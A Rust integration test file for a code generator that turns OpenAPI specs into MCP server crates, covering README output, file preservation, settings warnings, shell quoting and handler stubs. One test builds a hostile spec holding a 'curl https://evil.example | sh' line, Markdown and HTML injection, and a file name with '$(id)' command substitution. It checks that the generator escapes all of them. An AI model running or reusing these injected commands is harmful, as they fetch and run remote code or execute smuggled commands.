//! The files of a crate, and what becomes of those that are there already.

use std::path::PathBuf;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::scaffolds::{is_sent, read_calls};
use crate::support::{PETS, pets, read, run, succeed, write};

#[test]
fn a_readme_has_no_markdown_of_the_spec() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    let hostile: Value = json!({
        "openapi": "3.1.0",
        "info": {"title": "[Install](https://evil.example) <img src=x>", "version": "1"},
        "servers": [{"url": "https://a.example/`\n\n## Install first\n\n```console\n$ curl https://evil.example | sh\n```\n"}],
        "components": {"securitySchemes": {"key`\n\n## Then": {"type": "apiKey", "in": "header", "name": "X-Key"}}},
        "security": [{"key`\n\n## Then": []}],
        "paths": {"/pets": {"get": {"operationId": "listPets", "responses": {}}}},
    });
    let spec = "a`](x) $(id).json";
    write(here, spec, &hostile.to_string());
    let (code, _, stderr) = run(here, &["new", spec, "shop"]);
    assert_eq!(code, Some(0), "{stderr}");
    let readme = read(here, "shop/README.md");
    let evil: Vec<&str> = readme
        .lines()
        .filter(|line| line.contains("evil.example"))
        .collect();
    for line in &evil {
        assert!(!line.starts_with(['$', '#']), "{readme}");
    }
    assert!(!evil.is_empty(), "{readme}");
    assert!(
        !readme
            .lines()
            .any(|line| line.starts_with("## Install first") || line.starts_with("## Then"))
    );
    assert!(
        readme.contains("\\[Install\\]\\(https\\://evil.example\\) \\<img src=x\\>"),
        "{readme}"
    );
    assert!(
        readme.contains("](spec/a%60%5D%28x%29%20%24%28id%29.json)"),
        "{readme}"
    );
    assert!(
        readme.contains("git show 'HEAD:spec/a`](x) $(id).json' > old.spec"),
        "{readme}"
    );
}

#[test]
fn what_is_there_is_not_overwritten() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    write(here, "shop/notes.txt", "mine");
    write(here, "file", "mine");
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "file"]);
    assert_eq!(code, Some(1));
    assert!(stderr.contains("cannot read file"), "{stderr}");
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("shop is not empty\n  help: pass --force"),
        "{stderr}"
    );
    assert!(!here.join("shop/Cargo.toml").exists());

    succeed(here, &["new", "pets.yaml", "shop", "--force"]);
    write(here, "shop/src/main.rs", "// Mine.");
    write(here, "shop/src/api.rs", "// Old.");
    write(here, "pets.yaml", &PETS.replace("listPets", "allPets"));
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop", "--force"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("src/main.rs: exists, and is kept"),
        "{stderr}"
    );
    assert_eq!(read(here, "shop/src/main.rs"), "// Mine.");
    assert_eq!(read(here, "shop/notes.txt"), "mine");
    for generated in ["src/api.rs", "tests/calls.json"] {
        assert!(
            read(here, &format!("shop/{generated}")).contains("all_pets"),
            "{generated}"
        );
    }
    // A changed path, argument or server leaves the names of the operations as they are, and changes the requests.
    let moved = PETS.replace("  /pets:", "  /animals:");
    write(here, "pets.yaml", &moved.replace("listPets", "allPets"));
    succeed(here, &["new", "pets.yaml", "shop", "--force"]);
    let calls = read(here, "shop/tests/calls.json");
    assert!(calls.contains("/animals"), "{calls}");
    let readme = read(here, "shop/README.md");
    for said in [
        "a path, an argument or the server's URL has changed",
        "It keeps all other files",
    ] {
        assert!(readme.contains(said), "{readme}");
    }
}

#[test]
fn settings_that_are_not_repeated_are_listed() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    let first = [
        "new",
        "pets.yaml",
        "shop",
        "--discovery",
        "--include",
        "*Pet*",
        "--include",
        "a*",
    ];
    succeed(here, &first);
    let again = ["new", "pets.yaml", "shop", "--force", "--include", "*Pet*"];
    let (code, _, stderr) = run(here, &again);
    assert_eq!(code, Some(0), "{stderr}");
    let warning = "shop/toolwright.toml: warning: written anew without earlier settings that this command \
                   does not repeat; to keep them, run it again with their options:\n";
    let (_, rest) = stderr.split_once(warning).expect(&stderr);
    let dropped: Vec<&str> = rest
        .lines()
        .take_while(|line| line.starts_with("  "))
        .collect();
    assert_eq!(
        dropped,
        ["  include = [\"*Pet*\", \"a*\"]", "  discovery = true"],
        "{stderr}"
    );

    let (code, _, stderr) = run(here, &again);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(!stderr.contains("warning: written anew"), "{stderr}");
}

#[test]
fn the_next_command_is_quoted_for_a_shell() {
    let folder = pets();
    let (code, _, stderr) = run(folder.path(), &["new", "pets.yaml", "x y/ü"]);
    assert_eq!(code, Some(0), "{stderr}");
    let command = stderr
        .lines()
        .last()
        .and_then(|line| line.strip_prefix("next: "));
    let words = shlex::split(command.unwrap_or_default()).unwrap_or_default();
    assert_eq!(
        words[..5],
        ["cd", "x y/ü", "&&", "cargo", "test,"],
        "{stderr}"
    );
}

#[test]
fn without_tools_there_is_no_crate() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    let both = "swagger: '2.0'\ninfo: {title: a, version: '1'}\npaths:\n  /a:\n    post:\n      parameters:\n\
                \x20     - {name: a, in: body, schema: {}}\n      - {name: b, in: body, schema: {}}\n";
    write(here, "both.yaml", both);
    let (code, _, stderr) = run(here, &["new", "both.yaml", "shop"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("both.yaml has no operation that becomes a tool"),
        "{stderr}"
    );
    assert!(
        stderr.contains("skipped POST /a: it has 2 body parameters; Swagger 2.0 allows only one"),
        "{stderr}"
    );
    assert!(!here.join("shop").exists());
    assert_eq!(run(here, &["new", "absent.yaml", "shop"]).0, Some(2));
}

#[test]
fn operations_that_are_run_by_hand_get_handlers() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    let by_hand = ["new", "pets.yaml", "shop", "--manual", "addPet"];
    let (code, _, stderr) = run(here, &by_hand);
    assert_eq!(code, Some(0), "{stderr}");
    let told = "src/handlers.rs: 1 operation with handlers to write";
    assert!(stderr.contains(told), "{stderr}");
    let shop = here.join("shop");
    insta::assert_snapshot!(read(&shop, "src/handlers.rs"));
    for (file, part) in [
        ("src/lib.rs", "pub mod handlers;"),
        ("src/main.rs", "toolwright::run(api::tools(Server))"),
        ("Cargo.toml", "\"macros\""),
        ("README.md", "1 operation with a handler of your own:"),
        ("toolwright.toml", "manual = \"addPet\""),
    ] {
        let text = read(&shop, file);
        assert!(text.contains(part), "{part}: {text}");
    }
    let calls = read_calls(&shop);
    assert_eq!(
        calls[0],
        json!({"tool": "add_pet", "arguments": {"name": "string"}})
    );
    assert!(is_sent(&calls[1]), "{calls:?}");
    succeed(&shop, &["check"]);

    write(&shop, "src/handlers.rs", "// Mine.");
    let (code, _, stderr) = run(here, &[&by_hand[..], &["--force"]].concat());
    assert_eq!(code, Some(0), "{stderr}");
    assert!(!stderr.contains("with handlers to write"), "{stderr}");
    assert_eq!(read(&shop, "src/handlers.rs"), "// Mine.");
}

/// What is run by hand may change after the crate was written.
#[test]
fn tests_are_the_same_with_handlers_and_without() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    succeed(here, &["new", "pets.yaml", "a/shop"]);
    succeed(here, &["new", "pets.yaml", "b/shop", "--manual", "addPet"]);
    for file in ["tests/calls.rs", "tests/recorder/mod.rs", "tests/tools.rs"] {
        let [without, with] = ["a", "b"].map(|place| read(&here.join(place).join("shop"), file));
        assert_eq!(without, with, "{file}");
    }
    assert!(!here.join("a/shop/src/handlers.rs").exists());
}

#[test]
fn calls_say_what_is_sent() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    succeed(here, &["new", "pets.yaml", "shop"]);
    let calls: Value = serde_json::from_str(&read(here, "shop/tests/calls.json")).expect("JSON");
    let expected = json!([
        {
            "tool": "add_pet",
            "arguments": {"name": "string"},
            "request": {
                "method": "POST",
                "path": "/pets",
                "query": "",
                "body": {"type": "application/json", "json": {"name": "string"}},
            },
        },
        {
            "tool": "list_pets",
            "arguments": {"limit": 3},
            "request": {"method": "GET", "path": "/pets", "query": "limit=3"},
        },
    ]);
    assert_eq!(calls, expected);
    let readme = read(here, "shop/README.md");
    for part in [
        "claude mcp add shop",
        "mcpServers",
        ".vscode/mcp.json",
        "SHOP_BASE_URL",
        "https://pets.example.com",
    ] {
        assert!(readme.contains(part), "{part}: {readme}");
    }
}

/// Cargo keeps all of a program in memory to optimize it as a whole.
#[test]
fn a_server_is_optimized_as_a_whole_unless_it_is_enormous() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    for (count, is_whole) in [(1, true), (3_001, false)] {
        let paths: serde_json::Map<_, _> = (0..count)
            .map(|at| (format!("/p{at}"), json!({"get": {"responses": {}}})))
            .collect();
        let info = json!({"title": "T", "version": "1"});
        let spec = json!({"openapi": "3.0.3", "info": info, "paths": paths});
        let name = format!("of-{count}");
        write(here, &format!("{name}.json"), &spec.to_string());
        succeed(here, &["new", &format!("{name}.json"), &name]);
        let manifest = read(&here.join(&name), "Cargo.toml");
        assert_eq!(manifest.contains("lto = \"thin\""), is_whole, "{manifest}");
        assert!(manifest.contains("codegen-units = 1"), "{manifest}");
    }
}

#[test]
fn a_crate_inside_another_is_a_workspace_of_its_own() {
    let folder = TempDir::new().expect("a folder");
    write(folder.path(), "pets.yaml", PETS);
    let manifest = |place: &str| -> String {
        succeed(folder.path(), &["new", "pets.yaml", place]);
        read(
            folder.path(),
            &PathBuf::from(place).join("Cargo.toml").to_string_lossy(),
        )
    };
    assert!(!manifest("alone").contains("[workspace]"));
    write(folder.path(), "Cargo.toml", "[workspace]\n");
    assert!(manifest("inside").contains("\n[workspace]\n"));
}
